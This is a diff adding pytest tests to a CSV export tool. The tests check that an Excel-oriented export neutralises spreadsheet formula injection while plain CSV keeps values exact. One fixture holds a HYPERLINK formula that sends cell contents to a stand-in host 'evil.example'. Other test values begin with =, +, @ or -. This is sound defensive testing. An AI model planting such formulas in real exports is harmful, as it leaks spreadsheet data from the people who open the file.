@@ -9,6 +9,7 @@ import pytest
 from click.testing import CliRunner
 
 from ledger import api
+from ledger import export as export_mod
 from ledger.cli import cli
 
 
@@ -98,3 +99,83 @@ def test_claims_have_no_verdict(ledger_db: Path, tmp_path: Path) -> None:
     )
     assert result.exit_code == 1
     assert "claims have no verdict" in result.output
+
+
+# --- formulas: exact for machines, inert for spreadsheets ----------------------------------
+
+FORMULA_OUTLET = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+FORMULA_NOTE = "@redaksi -- cek ulang"
+
+
+@pytest.fixture(scope="module")
+def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The seeds, one renamed "+003.txt" and one with a formula for its outlet, and a
+    review note that starts with "@": what outlets, file names and editors can write."""
+    seeds = Path(__file__).resolve().parents[1] / "seeds"
+    folder = tmp_path_factory.mktemp("formulas")
+    for seed in seeds.glob("*.txt"):
+        name = "+003.txt" if seed.name.startswith("003") else seed.name
+        (folder / name).write_bytes(seed.read_bytes())
+    stem = next(seeds.glob("002_*.txt")).stem
+    (folder / f"{stem}.meta.yaml").write_text(f"outlet: '{FORMULA_OUTLET}'\n", encoding="utf-8")
+    db = api.build([folder], tmp_path_factory.mktemp("l") / "ledger.db").db
+    finding = next(f for f in api.findings(db) if "+003.txt" in (f["document_a"], f["document_b"]))
+    api.review(db, finding["finding_id"], "confirmed", FORMULA_NOTE)
+    return db
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+62 21 555", "'+62 21 555"),
+        ("-2 jam", "'-2 jam"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("1 jam 45 menit", "1 jam 45 menit"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-5, -5),
+        (0.85, 0.85),
+    ],
+)
+def test_excel_cell_neutralises_formulas_only(value: object, cell: object) -> None:
+    assert export_mod.excel_cell(value) == cell
+
+
+def formula_cells(rows: list[dict[str, str]]) -> set[str]:
+    return {
+        v
+        for r in rows
+        for v in r.values()
+        if v.lstrip("'") in (FORMULA_OUTLET, FORMULA_NOTE, "+003.txt")
+    }
+
+
+def test_plain_csv_keeps_formulas_exact(formula_db: Path, tmp_path: Path) -> None:
+    """Plain CSV is for machines: every cell exactly what the ledger holds."""
+    out = tmp_path / "findings.csv"
+    api.export("findings", formula_db, out)
+    assert formula_cells(read(out)) == {FORMULA_OUTLET, FORMULA_NOTE, "+003.txt"}
+    api.export("claims", formula_db, out)
+    assert formula_cells(read(out)) == {FORMULA_OUTLET, "+003.txt"}
+
+
+def test_excel_csv_neutralises_formulas(formula_db: Path, tmp_path: Path) -> None:
+    """--excel is for people: no cell a spreadsheet would run as a formula."""
+    out = tmp_path / "findings.csv"
+    runner = CliRunner()
+    result = runner.invoke(
+        cli, ["export", "findings", "--db", str(formula_db), "--out", str(out), "--excel"]
+    )
+    assert result.exit_code == 0, result.output
+    rows = read(out, "utf-8-sig")
+    assert formula_cells(rows) == {f"'{FORMULA_OUTLET}", f"'{FORMULA_NOTE}", "'+003.txt"}
+    starts = tuple(export_mod.FORMULA_STARTS)
+    assert not [v for r in rows for v in r.values() if v.startswith(starts)]
+    assert {r["verdict"] for r in rows} <= {"contradiction", "variant", "consistent"}
+    assert all(float(r["confidence"]) >= 0 for r in rows if r["confidence"])
+    assert out.read_text("utf-8-sig").startswith('"verdict","severity"')  # every cell quoted
+    api.export("claims", formula_db, out, excel=True)
+    assert formula_cells(read(out, "utf-8-sig")) == {f"'{FORMULA_OUTLET}", "'+003.txt"}
